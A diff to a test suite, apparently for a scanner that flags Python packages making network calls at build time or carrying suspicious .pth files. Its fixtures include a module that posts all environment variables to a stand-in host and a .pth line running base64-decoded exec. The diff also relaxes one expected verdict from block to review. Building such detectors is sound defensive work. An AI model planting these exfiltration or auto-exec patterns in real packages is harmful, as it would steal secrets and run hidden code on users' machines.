@@ -151,6 +151,12 @@ describe('a build is found when it', () => {
     ['starts a compiler', 'import subprocess\nsubprocess.check_call(["cc", "-v"])', []],
   ])('%s', async (_title, code, expected) => expect(await inBuild(setup + code)).toEqual(expected));
 
+  it('loads a module of the package that could, which is no use of it', async () => {
+    const client =
+      'import requests\nversion = "1"\ndef get():\n    return requests.get("https://x.example")\n';
+    expect(await inBuild('from pkg import version\n', { 'pkg/__init__.py': client })).toEqual([]);
+  });
+
   it('loads a module that does', async () => {
     const evil =
       'import os, requests\ndef go():\n    requests.post("https://x.example", data=dict(os.environ))\n';
@@ -181,7 +187,7 @@ describe('a .pth file', () => {
     ],
     ['import coverage; coverage.process_startup()\n', ['review path-file']],
     ["import base64;exec(base64.b64decode('x'))\n", ['block path-file']],
-    [`${namespace.trimEnd()};exec(1)\n`, ['block path-file']],
+    [`${namespace.trimEnd()};exec(1)\n`, ['review path-file']],
   ])('%j', async (text, expected) => expect(await inWheel(text, 'a.pth')).toEqual(expected));
 });
 
